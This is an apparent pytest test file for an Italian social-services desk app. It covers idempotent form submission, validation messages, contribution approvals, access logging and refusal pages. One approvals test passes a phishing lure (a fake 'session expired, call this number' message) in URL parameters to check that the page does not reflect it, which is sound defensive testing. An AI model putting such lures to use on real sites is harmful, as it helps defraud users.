    assert 'href="/persons/new?person_id=p-1"' in page.text, page.text
    assert 'href="/persons/new?person_id=p-1&amp;as=member"' in page.text, page.text
    assert await axe_problems(desk, browser, {"cartella-no-household": page.text}) == []
    as_member = await desk.client.get("/persons/new?person_id=p-1&as=member")
    assert as_member.status_code == 200, as_member.text
    assert '<input type="hidden" name="m1_person_id" value="p-1">' in as_member.text, as_member.text
    assert 'id="m1_given_name" name="m1_given_name" type="text" value="Amina" readonly' in as_member.text
    assert "m0_person_id" not in as_member.text  # the reference person's row is left to fill
    new = await desk.client.get("/persons/new?person_id=p-1")
    assert '<input type="hidden" name="m0_person_id" value="p-1">' in new.text, new.text
    assert await axe_problems(desk, browser, {"register-with-her": new.text}) == []
    async with desk.pool.acquire() as conn:
        logged = await conn.fetch("select action from access_log where person_id = 'p-1' order by entry_id")
    assert "household forming" in [row["action"] for row in logged], logged  # her data shown: in the access log
    assert '<input type="hidden" name="m0_use_on_file" value="p-1">' in new.text
    form = {"csrf": "csrf-maria", "form_key": form_key_of(new.text, "/persons/new"), "m0_person_id": "p-1",
            "m0_use_on_file": "p-1", "m0_given_name": "Amina", "m0_family_name": "Okafor",
            "m0_birth_date": "14/03/1985",
            "m1_given_name": "Tariq", "m1_family_name": "Okafor", "m1_birth_date": "02/02/2015", "m1_sex": "male",
            "m1_nationality": "NG"}  # fmt: skip
    r = await desk.client.post("/persons/new", data=form)
    assert r.status_code == 303, r.text
    [household] = households
    assert household["reference_person_id"] == "p-1" and household["member_ids"][0] == "p-1"
    assert len(household["member_ids"]) == 2
    registered = [json.loads(q.content) for q in desk.services.requests if q.url.path == "/persons"]
    assert [p["identity"]["given_name"] for p in registered] == ["Tariq"]


def form_key_of(html: str, action: str) -> str:
    """The idempotency key the form posting to `action` was rendered with."""
    form = html.split(f'method="post" action="{action}"', 1)[1].split("</form>", 1)[0]
    found = re.search(r'name="form_key" value="([^"]+)"', form)
    assert found, form
    return found.group(1)


def keeping(posts: list[tuple[str, dict[str, Any]]], status: int = 201) -> Handler:
    """An answer that keeps each call's Idempotency-Key and body."""

    def answer(request: httpx.Request) -> httpx.Response:
        body = json.loads(request.content)
        posts.append((request.headers["Idempotency-Key"], body))
        return httpx.Response(status, json=body)

    return answer


async def test_a_form_sent_twice_is_one_request_for_the_services(desk: Desk) -> None:
    """A double click (or the browser's resend) made two contribution requests: every call had a fresh
    Idempotency-Key. The form now carries its key, kept when it is shown again after a refusal, and the ids the desk
    makes for a create (a case's, an appointment's, a person's) come from it, so the services replay the first."""
    today = clock.today().isoformat()
    serve_the_cartella(desk.services, today, today)
    contributions: list[tuple[str, dict[str, Any]]] = []
    cases: list[tuple[str, dict[str, Any]]] = []
    desk.services.answers[("payments", "POST", "/contribution-requests")] = keeping(contributions)
    desk.services.answers[("intake", "POST", "/cases")] = keeping(cases)
    await desk.as_operator(MARIA)
    page = (await desk.client.get("/persons/p-1")).text
    key = form_key_of(page, "/persons/p-1/contributions")
    form = {"csrf": "csrf-maria", "form_key": key, "case_id": "c-8e2b7d41a9f0", "kind": "deposit", "amount": "300"}
    for _ in range(2):
        assert (await desk.client.post("/persons/p-1/contributions", data=form)).status_code == 303
    assert contributions[0] == contributions[1], contributions
    opening = {"csrf": "csrf-maria", "household_id": "h-5f1c0a9e7b2d", "action_area": "housing_inclusion",
               "channel": "desk", "opened_on": today, "partner": "coop-aurora",
               "form_key": form_key_of(page, "/persons/p-1/cases")}  # fmt: skip
    for _ in range(2):
        assert (await desk.client.post("/persons/p-1/cases", data=opening)).status_code == 303
    assert cases[0] == cases[1] and cases[0][1]["case_id"], cases
    assert (await desk.client.get("/persons/p-1")).text.count(key) == 0  # a new page, a new key

    # an appointment, and a form refused then corrected: the key is kept on the form shown again
    booked: list[tuple[str, dict[str, Any]]] = []
    agenda_services(desk.services)
    desk.services.answers[("intake", "POST", "/appointments")] = keeping(booked)
    agenda = (await desk.client.get("/agenda")).text
    key = form_key_of(agenda, "/agenda")
    yesterday = (clock.today() - timedelta(days=1)).isoformat()
    tomorrow = (clock.today() + timedelta(days=1)).isoformat()
    booking = {"csrf": "csrf-maria", "form_key": key, "day": yesterday, "time": "10:00", "minutes": "30",
               "party": "p-1", "purpose": "plan_review", "operator": "maria"}  # fmt: skip
    refused = await desk.client.post("/agenda", data=booking)
    assert refused.status_code == 422 and form_key_of(refused.text, "/agenda") == key
    for _ in range(2):
        assert (await desk.client.post("/agenda", data=booking | {"day": tomorrow})).status_code == 303
    assert len(booked) == 2 and booked[0] == booked[1], booked

    # a registration: each member, consent and household call the same twice
    registered: list[tuple[str, dict[str, Any]]] = []
    for path in ("/persons", "/consents", "/households"):
        desk.services.answers[("intake", "POST", path)] = keeping(registered)
    new = (await desk.client.get("/persons/new")).text
    household = {"csrf": "csrf-maria", "form_key": form_key_of(new, "/persons/new"), "m0_given_name": "Amina",
                 "m0_family_name": "Okafor", "m0_birth_date": "1985-03-14", "m0_sex": "female",
                 "m0_nationality": "NG", "consent_service": "on"}  # fmt: skip
    first = await desk.client.post("/persons/new", data=household)
    second = await desk.client.post("/persons/new", data=household)
    assert first.status_code == second.status_code == 303
    assert first.headers["location"] == second.headers["location"]
    assert registered[:3] == registered[3:], registered


def refusing(field: str, reason: str) -> Handler:
    def answer(request: httpx.Request) -> httpx.Response:
        return httpx.Response(422, json={"status": 422, "field": field, "reason": reason})

    return answer


async def test_the_cartellas_forms_keep_their_choices_after_a_refusal(desk: Desk) -> None:
    """Choices were lost when a form came back refused (the first option selected, no box ticked, the housing need
    ticked again): sent again as they were, they recorded wrong data."""
    today = clock.today().isoformat()
    serve_the_cartella(desk.services, today, today)
    desk.services.answers |= {
        ("intake", "POST", "/cases/assessments"): refusing("assessed_on", "is in the future"),
        ("intake", "POST", "/cases/plans"): refusing("agreed_on", "is in the future"),
        ("intake", "POST", "/cases"): refusing("opened_on", "is in the future"),
        ("payments", "POST", "/tutoring-sessions"): refusing("on", "is in the future"),
    }
    await desk.as_operator(MARIA)
    case = {"csrf": "csrf-maria", "case_id": "c-8e2b7d41a9f0"}
    r = await desk.client.post("/persons/p-1/assessments", data={
        **case, "housing_situation": "facing_eviction", "employment_status": "unemployed", "monthly_income": "450",
        "vulnerabilities.p-1": ["single_parent", "disability"], "assessed_on": today})  # fmt: skip
    assert r.status_code == 422, r.text
    assert '<option value="facing_eviction" selected>' in r.text and '<option value="unemployed" selected>' in r.text
    for v in ("single_parent", "disability"):
        assert f'id="v_p-1_{v}" name="vulnerabilities.p-1" value="{v}" checked' in r.text, v
    r = await desk.client.post("/persons/p-1/plans", data={**case, "objectives": ["employment", "housing_autonomy"]})
    assert r.status_code == 422
    assert 'id="o_employment" name="objectives" value="employment" checked' in r.text
    assert 'id="o_housing_autonomy" name="objectives" value="housing_autonomy" checked' in r.text
    r = await desk.client.post("/persons/p-1/tutoring", data={**case, "topics": ["budgeting"], "on": today})
    assert r.status_code == 422 and 'id="t_budgeting" name="topics" value="budgeting" checked' in r.text
    opening = {"csrf": "csrf-maria", "household_id": "h-5f1c0a9e7b2d", "action_area": "taking_charge",
               "channel": "mobile_unit", "opened_on": today, "partner": "coop-aurora"}  # fmt: skip
    r = await desk.client.post("/persons/p-1/cases", data=opening)  # housing need left unticked
    assert r.status_code == 422
    assert '<option value="taking_charge" selected>' in r.text and '<option value="mobile_unit" selected>' in r.text
    assert re.search(r'<input type="checkbox" id="housing_need" name="housing_need"\s*>', r.text), r.text


async def test_a_payee_named_without_an_iban_is_said_as_the_label_reads(desk: Desk) -> None:
    """With the payee's name and no IBAN, the IBAN said "campo obbligatorio" under its label "IBAN del beneficiario
    (se vuoto: da indicare in seguito)": a contradiction. It says that a payee named needs the IBAN too, or both
    left blank; both blank is a request whose payee is given later."""
    today = clock.today().isoformat()
    serve_the_cartella(desk.services, today, today)
    requested: list[tuple[str, dict[str, Any]]] = []
    desk.services.answers[("payments", "POST", "/contribution-requests")] = keeping(requested)
    await desk.as_operator(MARIA)
    sent = {"csrf": "csrf-maria", "case_id": "c-8e2b7d41a9f0", "kind": "deposit", "amount": "300",
            "beneficiary_name": "Mario Rossi", "beneficiary_iban": " "}  # fmt: skip
    r = await desk.client.post("/persons/p-1/contributions?lang=it", data=sent)
    said = text_of(r.text)
    assert r.status_code == 422 and 'id="beneficiary_iban-error"' in r.text and requested == [], said
    assert "se indica il beneficiario serve anche l'IBAN, oppure lasci vuoti entrambi" in said, said
    assert "campo obbligatorio" not in said
    r = await desk.client.post("/persons/p-1/contributions", data=sent | {"beneficiary_name": ""})
    assert r.status_code == 303 and "beneficiary" not in requested[-1][1], requested


async def test_a_case_form_sent_empty_says_every_fields_error_at_once(desk: Desk) -> None:
    """Opening a case with everything empty said only "scelga l'ente partner"; the empty action area, channel and
    date came on the next try, and the next. Every field's error is said at once (a transfer's and a closure's
    too), and nothing is sent."""
    today = clock.today().isoformat()
    serve_the_cartella(desk.services, today, today)
    await desk.as_operator(MARIA)
    opening = {"csrf": "csrf-maria", "household_id": "h-5f1c0a9e7b2d", "action_area": "", "channel": "",
               "opened_on": "", "partner": ""}  # fmt: skip
    transfer = {"csrf": "csrf-maria", "case_id": "c-8e2b7d41a9f0", "to_partner": "", "transfer_on": "31/02/2026"}
    closure = {"csrf": "csrf-maria", "case_id": "c-8e2b7d41a9f0", "case_outcome": "", "closed_on": ""}
    for path, sent, fields in [
        ("cases", opening, ("partner", "action_area", "channel", "opened_on")),
        ("transfer", transfer, ("to_partner", "transfer_on")),
        ("closures", closure, ("case_outcome", "closed_on")),
    ]:
        r = await desk.client.post(f"/persons/p-1/{path}?lang=it", data=sent)
        assert r.status_code == 422, (path, r.status_code)
        missing = [f for f in fields if f'id="{f}-error"' not in r.text]
        assert missing == [], (path, missing, text_of(r.text))
    assert not [c for c in desk.services.calls if c[1] == "POST"], desk.services.calls


async def test_with_two_open_cases_the_operator_chooses_the_case_each_form_writes_to(desk: Desk) -> None:
    """The case forms wrote to whichever open case sorted last, without saying which: the other open case (another
    action area, another partner) could never be assessed, planned, funded or transferred from the desk."""
    today, earlier = clock.today().isoformat(), (clock.today() - timedelta(days=40)).isoformat()
    serve_the_cartella(desk.services, today, earlier)
    record = a_record(today, earlier)
    second = {**record["cases"][0], "case_id": "c-2", "action_area": "civic_engagement", "partner": "coop-borgo",
              "opened_on": today, "plans": []}  # fmt: skip
    record["cases"] = [record["cases"][0], second]
    desk.services.answers[("intake", "GET", "/persons/p-1/record")] = record
    desk.services.answers[("intake", "GET", "/partners")] = [
        {"partner_id": "coop-aurora", "name": "Cooperativa Aurora"},
        {"partner_id": "coop-borgo", "name": "Associazione Borgo Dora"},
    ]
    requested: list[tuple[str, dict[str, Any]]] = []
    desk.services.answers[("payments", "POST", "/contribution-requests")] = keeping(requested)
    await desk.as_operator(MARIA)
    page = await desk.client.get("/persons/p-1")
    form = page.text.split('action="/persons/p-1/contributions"', 1)[1].split("</form>", 1)[0]
    assert '<select id="contributions_case" name="case_id" required' in form, form
    options = text_of(form.split('name="case_id"', 1)[1].split("</select>", 1)[0])
    assert "Inclusione abitativa, Cooperativa Aurora, aperta il" in options, options
    assert "Partecipazione civica, Associazione Borgo Dora, aperta il" in options, options
    sent = {"csrf": "csrf-maria", "kind": "deposit", "amount": "300"}
    r = await desk.client.post("/persons/p-1/contributions", data=sent | {"case_id": "c-2"})
    assert r.status_code == 303 and requested[-1][1]["case_id"] == "c-2", requested
    r = await desk.client.post("/persons/p-1/contributions", data=sent | {"case_id": ""})  # no case chosen
    assert r.status_code == 422 and 'id="contributions_case-error"' in r.text, r.text
    assert "scelga la pratica" in text_of(r.text)
    # no amount: said as missing ("campo obbligatorio"), not as an invalid amount, and with the case in the same round
    calls = len(requested)
    r = await desk.client.post("/persons/p-1/contributions", data=sent | {"case_id": "", "amount": " "})
    assert r.status_code == 422 and len(requested) == calls
    assert 'id="amount-error"' in r.text and 'id="contributions_case-error"' in r.text, r.text
    assert "campo obbligatorio" in text_of(r.text) and "scelga la pratica" in text_of(r.text)
    # from an outside review: the assessment, the plan and the money tutoring said one refusal per round (the case
    # first, then a day that is none, then what the service says): every one the desk can see at once, at its field
    wrong = {"csrf": "csrf-maria", "case_id": ""}
    for action, data, fields in (
        ("assessments", {"monthly_income": "", "assessed_on": "31/02/2026"},
         ("assessments_case", "housing_situation", "monthly_income", "employment_status", "assessed_on")),
        ("plans", {"agreed_on": "31/02/2026"}, ("plans_case", "objectives", "agreed_on")),
        ("tutoring", {"on": "31/02/2026"}, ("tutoring_case", "topics", "on")),
    ):  # fmt: skip
        r = await desk.client.post(f"/persons/p-1/{action}", data=wrong | data)
        assert r.status_code == 422, r.text
        assert all(f'id="{field}-error"' in r.text for field in fields), (action, r.text)
    assert "scelga almeno una voce" in text_of(r.text), text_of(r.text)  # the topics: none ticked
    # one open case: the form says which it writes to
    desk.services.answers[("intake", "GET", "/persons/p-1/record")] = a_record(today, earlier)
    one = (await desk.client.get("/persons/p-1")).text
    form = one.split('action="/persons/p-1/plans"', 1)[1].split("</form>", 1)[0]
    assert 'type="hidden" name="case_id" value="c-8e2b7d41a9f0"' in form
    assert "Pratica: Inclusione abitativa, Cooperativa Aurora, aperta il" in text_of(form), text_of(form)


async def test_approvals_are_the_city_staffs_only(desk: Desk) -> None:
    """A cooperative's operator opened /approvals (not in her menu), got "Approva" buttons, and payments' refusal
    in English."""
    desk.services.answers |= {
        ("payments", "GET", "/contribution-requests"): [
            {"request_id": "r-1", "case_id": "c-1", "kind": "rent", "amount_cents": 12000,
             "requested_by": "desk.maria", "status": "requested"}],
        ("payments", "POST", "/contribution-requests/r-1/approval"): {},
    }  # fmt: skip
    await desk.as_operator(LUCA)
    page = await desk.client.get("/approvals")
    assert page.status_code == 403 and "Approva" not in page.text, page.text
    r = await desk.client.post("/approvals/r-1", data={"csrf": "csrf-luca"})
    assert r.status_code == 403
    assert ("payments", "POST", "/contribution-requests/r-1/approval") not in desk.services.calls
    from lgnet_desk.domain import refusals

    assert refusals.say("only the city's staff may approve contributions", "it") == (
        "solo il personale del Comune può approvare i contributi"
    )
    assert refusals.say("only the city's staff may export payment files", "it") == (
        "solo il personale del Comune può farlo"
    )


async def test_the_approvals_page_shows_no_text_from_its_address(desk: Desk) -> None:
    """`/approvals?error=<any text>` showed the text as the page's red alert: a link could make the desk say anything
    (phishing). A refusal is shown when the approval is refused (the page rendered again), never from the URL."""
    desk.services.answers[("payments", "GET", "/contribution-requests")] = []
    await desk.as_operator(MARIA)
    lure = "Sessione scaduta: chiami il numero 0123 456789"
    page = await desk.client.get("/approvals", params={"error": lure, "done": lure})
    assert page.status_code == 200
    assert "0123 456789" not in page.text and 'role="alert"' not in page.text, page.text


def two_rents(requested_by: str = "desk.maria") -> dict[tuple[str, str, str], Any]:
    """The outside tester's two rents of 450 € on one case (December 2026, June 2027), with what intake says of the
    case and of the household's reference person (found by the case, as the housing page finds it)."""
    earlier = "2026-12-04"
    rent = {"case_id": "c-8e2b7d41a9f0", "household_id": "h-5f1c0a9e7b2d", "kind": "rent", "amount_cents": 45000,
            "requested_by": requested_by, "status": "requested"}  # fmt: skip
    return {
        ("payments", "GET", "/contribution-requests"): [
            rent | {"request_id": "r-dec", "period_from": "2026-12-01", "period_to": "2026-12-31"},
            rent | {"request_id": "r-jun", "period_from": "2027-06-01", "period_to": "2027-06-30"}],
        ("intake", "GET", "/cases/c-8e2b7d41a9f0"): {
            "case_id": "c-8e2b7d41a9f0", "action_area": "taking_charge", "opened_on": earlier,
            "partner": None, "household_id": "h-5f1c0a9e7b2d"},
        ("intake", "POST", "/persons/search"): [{"person_id": "p-1", "household_reference": True,
                                                 "identity": {"given_name": "Amina", "family_name": "Okafor"}}],
    }  # fmt: skip


def approvals_row(html: str, request_id: str) -> str:
    """The table row of one request (its forms post to /approvals/<id>…)."""
    rows = [r for r in html.split("<tr") if f'action="/approvals/{request_id}' in r]
    assert len(rows) == 1, html
    return rows[0]


async def test_each_request_to_approve_says_who_it_is_for_and_the_period_it_pays(desk: Desk) -> None:
    """An outside tester asked for two rents of 450 € on one case, December 2026 and June 2027: /approvals showed
    two identical rows (the case, the kind, the amount, who asked), and the approver approved June for December. Each
    row names the household by its reference person, as the cartella does, and the period a rent pays; the view of
    the person's data is in the access log."""
    desk.services.answers |= two_rents()
    await desk.as_operator(GIULIA)
    page = (await desk.client.get("/approvals")).text
    december, june = text_of(approvals_row(page, "r-dec")), text_of(approvals_row(page, "r-jun"))
    assert december != june
    for row, period in ((december, "dal 1 dic 2026 al 31 dic 2026"), (june, "dal 1 giu 2027 al 30 giu 2027")):
        assert "Nucleo di Amina Okafor" in row and period in row, row
        assert "Canone di affitto" in row and "450,00 €" in row and "Maria Rossi" in row, row
    async with desk.pool.acquire() as conn:
        entries = await store.access_entries(conn, "torino", "p-1")
    assert [(e["operator"], e["action"], e["outcome"]) for e in entries] == [("giulia", "approvals", "shown")]
    await desk.as_operator(RPD)
    log = text_of((await desk.client.get("/access-log")).text)
    assert "Approvazione dei contributi" in log, log
    # a kind that pays no period says none
    await desk.as_operator(GIULIA)
    deposit = {"request_id": "r-dep", "case_id": "c-8e2b7d41a9f0", "household_id": "h-5f1c0a9e7b2d",
               "kind": "deposit", "amount_cents": 90000, "requested_by": "desk.maria", "status": "requested",
               "period_from": None, "period_to": None}  # fmt: skip
    desk.services.answers[("payments", "GET", "/contribution-requests")] = [deposit]
    row = text_of(approvals_row((await desk.client.get("/approvals")).text, "r-dep"))
    assert "Deposito cauzionale" in row and " dal " not in row, row


async def test_the_approver_sees_whom_the_money_goes_to_by_name_never_the_household_for_a_landlord(
    desk: Desk, browser: Any
) -> None:
    """An outside tester asked for 450 € of rent paid to "Immobiliare Po srl": /approvals said "A favore del nucleo di
    Mariam Traoré Koné: IBAN ••••3456" and the landlord's name was nowhere, on the approvals nor on the cartella. The
    row names the payee as payments reads it to the city's staff (`payee_name`) beside the masked IBAN, says whose
    contribution it is ("per il nucleo di …"), never that the money is in the household's favour; so does the
    cartella's table of contributions."""
    answers = two_rents()
    [dec, jun] = answers[("payments", "GET", "/contribution-requests")]
    payee = {"payee_name": "Immobiliare Po srl", "iban_masked": "••••3456", "has_beneficiary": True,
             "bank_data_version": 1, "bank_data_changed_by": "desk.maria"}  # fmt: skip
    answers[("payments", "GET", "/contribution-requests")] = [dec | payee, jun]
    desk.services.answers |= answers
    await desk.as_operator(GIULIA)
    page = (await desk.client.get("/approvals")).text
    row = text_of(approvals_row(page, "r-dec"))
    assert "Immobiliare Po srl, IBAN ••••3456, inserito da Maria Rossi" in row, row
    assert "per il nucleo di Amina Okafor" in row and "A favore" not in page, row
    assert "Immobiliare Po srl" not in text_of(approvals_row(page, "r-jun"))  # no payee yet
    english = text_of(approvals_row((await desk.client.get("/approvals?lang=en")).text, "r-dec"))
    assert "Immobiliare Po srl, IBAN ••••3456, entered by Maria Rossi" in english, english
    assert "for the household of Amina Okafor" in english, english
    assert await axe_problems(desk, browser, {"approvals-payee": page}) == []

    today = clock.today().isoformat()
    serve_the_cartella(desk.services, today, today)
    requests = [dec | payee, jun | {"has_beneficiary": False}]
    desk.services.answers[("payments", "GET", "/contribution-requests")] = requests
    await desk.as_operator(MARIA)
    cartella = await desk.client.get("/persons/p-1?lang=it")
    text = text_of(cartella.text)
    assert "Beneficiario" in text and "Immobiliare Po srl, IBAN ••••3456" in text, text
    assert await axe_problems(desk, browser, {"cartella-payee": cartella.text}) == []


async def test_a_request_whose_household_cannot_be_named_shows_its_id(desk: Desk) -> None:
    """No member of the household visible (intake's search by the case finds nobody), or intake away: the row names
    the household by its id, the rest of the page as usual."""
    desk.services.answers |= two_rents() | {("intake", "POST", "/persons/search"): []}
    await desk.as_operator(GIULIA)
    page = await desk.client.get("/approvals")
    assert page.status_code == 200, page.text
    row = approvals_row(page.text, "r-dec").replace("\xa0", " ")
    assert "Nucleo di (non visibile per Lei)" in text_of(row) and '<small class="id">h-5f1c0a9e7b2d</small>' in row
    assert 'aria-label="Approva: Canone di affitto, 450,00 €, nucleo h-5f1c0a9e7b2d, dal 1 dic 2026' in row, row

    def away(request: httpx.Request) -> httpx.Response:
        raise httpx.ConnectError("intake is away")

    desk.services.answers[("intake", "POST", "/persons/search")] = away
    page = await desk.client.get("/approvals")
    assert page.status_code == 200 and "nucleo h-5f1c0a9e7b2d" in page.text, page.text

    # The reference person shown, with no name recorded yet: said so, not "(non visibile per Lei)" (an upgrade's
    # reviewer read that an access restriction hid a person who simply had no name).
    desk.services.answers[("intake", "POST", "/persons/search")] = [
        {"person_id": "p-1", "household_reference": True, "identity": {"given_name": None, "family_name": None}}
    ]
    row = text_of(approvals_row((await desk.client.get("/approvals")).text, "r-dec"))
    assert "Nucleo di nome non registrato" in row and "non visibile" not in row, row


async def test_the_approve_button_names_its_row_for_a_screen_reader(desk: Desk) -> None:
    """The buttons' accessible name was "Approva <uuid>": it names the contribution, the amount, the household and the
    period now, in the page's language."""
    desk.services.answers |= two_rents()
    await desk.as_operator(GIULIA)
    row = approvals_row((await desk.client.get("/approvals")).text, "r-dec")
    assert 'aria-label="Approva: Canone di affitto, 450,00 €, Amina Okafor, dal 1 dic 2026 al 31 dic 2026"' in (
        row.replace("\xa0", " ")
    ), row
    row = approvals_row((await desk.client.get("/approvals?lang=en")).text, "r-jun")
    assert 'aria-label="Approve: Rent, €450.00, Amina Okafor, from 1 Jun 2027 to 30 Jun 2027"' in row, row
    assert 'aria-label="Reject: Rent, €450.00, Amina Okafor, from 1 Jun 2027 to 30 Jun 2027"' in row, row


async def test_the_approval_sends_the_bank_data_version_the_operator_saw(desk: Desk) -> None:
    """Giulia compared the IBAN her page showed (••••3000) with the payee's documents; if the bank data changed before
    her click, payments must not take her approval for the new IBAN: the approve form carries the version the page
    showed, and the desk sends it (payments refuses another version with 409 `bank_data_version`)."""
    answers = two_rents()
    [dec, jun] = answers[("payments", "GET", "/contribution-requests")]
    answers[("payments", "GET", "/contribution-requests")] = [
        dec | {"bank_data_version": 2, "iban_masked": "••••3000"},
        jun,
    ]
    sent: list[Any] = []

    def approve(request: httpx.Request) -> httpx.Response:
        sent.append(json.loads(request.content))
        return httpx.Response(200, json=dec | {"status": "approved"})

    desk.services.answers |= answers | {("payments", "POST", "/contribution-requests/r-dec/approval"): approve}
    await desk.as_operator(GIULIA)
    page = (await desk.client.get("/approvals")).text
    assert '<input type="hidden" name="bank_data_version" value="2">' in approvals_row(page, "r-dec")
    assert 'name="bank_data_version"' not in approvals_row(page, "r-jun")  # no bank data yet: nothing to name
    r = await desk.client.post("/approvals/r-dec", data={"csrf": "csrf-giulia", "bank_data_version": "2"})
    assert r.status_code == 303 and sent == [{"bank_data_version": 2}], (r.text, sent)


async def test_the_requester_is_not_offered_to_approve_her_own_request(desk: Desk) -> None:
    """Maria was offered "Approva" on her own requests, and clicking it brought payments' refusal at the top of the page
    without saying which row. Her rows say that another operator must approve them; payments' rule stays payments':
    an approval she sends anyway is refused by payments, and the refusal names the row."""
    problem = {"status": 403, "field": "approved_by", "reason": "the requester cannot approve their own request"}
    desk.services.answers |= two_rents() | {
        ("payments", "POST", "/contribution-requests/r-dec/approval"): httpx.Response(403, json=problem)
    }
    await desk.as_operator(MARIA)
    page = (await desk.client.get("/approvals")).text
    row = approvals_row(page, "r-dec")
    assert 'action="/approvals/r-dec"' not in row and ">Approva<" not in row, row
    assert "Ha chiesto Lei questo contributo: deve approvarlo un altro operatore." in text_of(row), row
    r = await desk.client.post("/approvals/r-dec", data={"csrf": "csrf-maria"})
    assert r.status_code == 403 and ("payments", "POST", "/contribution-requests/r-dec/approval") in desk.services.calls
    alert = text_of(r.text.split('role="alert">', 1)[1].split("</p>", 1)[0])
    assert alert.strip() == (
        "Canone di affitto, 450,00 €, Amina Okafor, dal 1 dic 2026 al 31 dic 2026: "
        "chi ha chiesto il contributo non può approvarlo."
    ), alert
    # another operator is offered it
    await desk.as_operator(GIULIA)
    row = approvals_row((await desk.client.get("/approvals")).text, "r-dec")
    assert 'action="/approvals/r-dec"' in row and "deve approvarlo un altro operatore" not in row, row


async def test_a_request_is_rejected_with_a_coded_reason_once(desk: Desk) -> None:
    """There was no way to refuse a request. Payments' `POST /contribution-requests/{id}/rejection` takes a coded
    reason: the row's "Respingi" form sends it, with the form's Idempotency-Key (sent twice: one rejection); no reason
    chosen is said at the row and nothing is sent; payments' refusal is said naming the row."""
    rejected: list[tuple[str, dict[str, Any]]] = []
    desk.services.answers |= two_rents() | {
        ("payments", "POST", "/contribution-requests/r-jun/rejection"): keeping(rejected, 200)
    }
    await desk.as_operator(GIULIA)
    page = (await desk.client.get("/approvals")).text
    row = approvals_row(page, "r-jun")
    assert 'action="/approvals/r-jun/rejection"' in row and 'name="reason"' in row and "required" in row, row
    assert '<option value="wrong_details">Dati errati (importo, periodo o tipo)</option>' in row, row
    form = {"csrf": "csrf-giulia", "form_key": form_key_of(page, "/approvals/r-jun/rejection")}
    r = await desk.client.post("/approvals/r-jun/rejection", data=form)  # no reason
    assert r.status_code == 422 and rejected == [], r.text
    row = approvals_row(r.text, "r-jun")
    assert 'aria-invalid="true"' in row and "scelga il motivo" in text_of(row), row
    for _ in range(2):
        r = await desk.client.post("/approvals/r-jun/rejection", data=form | {"reason": "wrong_details"})
        assert r.status_code == 303 and r.headers["location"] == "/approvals?rejected=1", r.text
    assert rejected == [(f"desk:{form['form_key']}:rejection:r-jun", {"reason": "wrong_details"})] * 2, rejected
    done = await desk.client.get(r.headers["location"])
    assert "Richiesta respinta." in text_of(done.text), done.text
    # payments refuses (another operator decided first): said naming the row
    problem = {"status": 409, "field": "status", "reason": "request is approved, only a requested one can be rejected"}
    desk.services.answers[("payments", "POST", "/contribution-requests/r-dec/rejection")] = httpx.Response(
        409, json=problem
    )
    r = await desk.client.post("/approvals/r-dec/rejection", data={"csrf": "csrf-giulia", "reason": "duplicate"})
    assert r.status_code == 409
    assert "dal 1 dic 2026 al 31 dic 2026: la richiesta non è più in attesa di approvazione" in text_of(r.text)
    # the requester may reject (withdraw) her own request: payments' rule, not the desk's
    await desk.as_operator(MARIA)
    page = (await desk.client.get("/approvals")).text
    assert 'action="/approvals/r-jun/rejection"' in approvals_row(page, "r-jun")


async def test_the_refusal_page_says_what_was_refused_and_logged_only_where_it_was(desk: Desk) -> None:
    """ "Accesso negato" always spoke of "this person" and said the attempt was in the access log, also for the agenda,
    the units, an outing of another city or a service that did not answer, where nothing was logged."""
    problem = {"status": 403, "field": "", "reason": "staff of trieste cannot read torino"}
    desk.services.answers |= {
        ("intake", "GET", "/appointments"): httpx.Response(403, json=problem),
        ("intake", "GET", "/mobile-units"): httpx.Response(500, text="Internal Server Error"),
        ("intake", "GET", "/persons/p-1/record"): httpx.Response(403, json=problem),
    }
    await desk.as_operator(MARIA)
    agenda = await desk.client.get("/agenda")
    text = text_of(agenda.text)
    assert agenda.status_code == 403 and "non può accedere ai dati di Torino" in text, text
    assert "registro degli accessi" not in text and "questa persona" not in text, text
    units = await desk.client.get("/outreach/units")
    text = text_of(units.text)
    assert units.status_code == 503 and "Il servizio non è disponibile" in text, text  # a 5xx: the service away
    assert "registro degli accessi" not in text and "Internal Server Error" not in text, text
    cartella = await desk.client.get("/persons/p-1")
    text = text_of(cartella.text)
    assert cartella.status_code == 403 and "Non può vedere i dati di questa persona" in text, text
    assert "Il tentativo è stato annotato nel registro degli accessi" in text, text
    async with desk.pool.acquire() as conn:
        assert [e["outcome"] for e in await store.access_entries(conn, "torino", "p-1")] == ["denied"]


async def test_a_cartella_not_found_is_titled_so_and_says_it_may_be_one_the_operator_may_not_see(desk: Desk) -> None:
    """A cooperative's cartella of another cooperative's person (intake: 404, as an id that exists nowhere) read
    "Accesso negato" in the page's title, "Non trovato" as its heading and "Il servizio ha rifiutato: nessuna
    persona …" below: three things at once. Now one: not found, and why that may be so."""
    problem = {"status": 404, "field": "person_id", "reason": "no person p-9"}
    desk.services.answers |= {("intake", "GET", "/persons/p-9/record"): httpx.Response(404, json=problem)}
    await desk.as_operator(MARIA)
    page = await desk.client.get("/persons/p-9")
    text = text_of(page.text)
    assert page.status_code == 404, text
    assert "<title>Non trovato · LgNet</title>" in page.text, page.text[:300]
    assert "Accesso negato" not in page.text and "Il servizio ha rifiutato" not in text, text
    assert "Non trovato Nessuna persona p-9." in text, text
    assert "potrebbe non essere tra quelli che può vedere" in text, text


async def test_a_read_refused_for_what_was_asked_says_why_not_that_the_service_is_away(desk: Desk) -> None:
    """A document of a person erased meanwhile (intake: 409) and the agenda refused with 422 were shown as "Il servizio
    non è disponibile … riprovi più tardi" (502): the operator was sent to try again what will never work. A refusal
    of what was asked (any 4xx) is shown as the service's reason with its status; only the desk's own credential
    refused (401) is the service unavailable."""
    gone = "the person was erased: the document cannot be read any more"
    erased = {"status": 409, "field": "person_id", "reason": gone}
    bad_day = {"status": 422, "field": "on", "reason": "not a date"}
    desk.services.answers |= {
        ("intake", "GET", "/persons/p-1/documents/d-1"): httpx.Response(409, json=erased),
        ("intake", "GET", "/appointments"): httpx.Response(422, json=bad_day),
        ("intake", "GET", "/mobile-units"): httpx.Response(401, json={"status": 401, "reason": "unknown token"}),
    }
    await desk.as_operator(MARIA)
    document = await desk.client.get("/persons/p-1/documents/d-1")
    text = text_of(document.text)
    assert document.status_code == 409 and "la persona è stata cancellata" in text, text
    assert "non è disponibile" not in text and "Il tentativo è stato annotato" in text, text
    agenda = await desk.client.get("/agenda")
    text = text_of(agenda.text)
    assert agenda.status_code == 422 and "Il servizio ha rifiutato la richiesta" in text, text
    assert "not a date" in text and "non è disponibile" not in text, text
    units = await desk.client.get("/outreach/units")  # the desk's own credential refused: the service unavailable
    assert units.status_code == 502 and "Il servizio non è disponibile" in text_of(units.text)


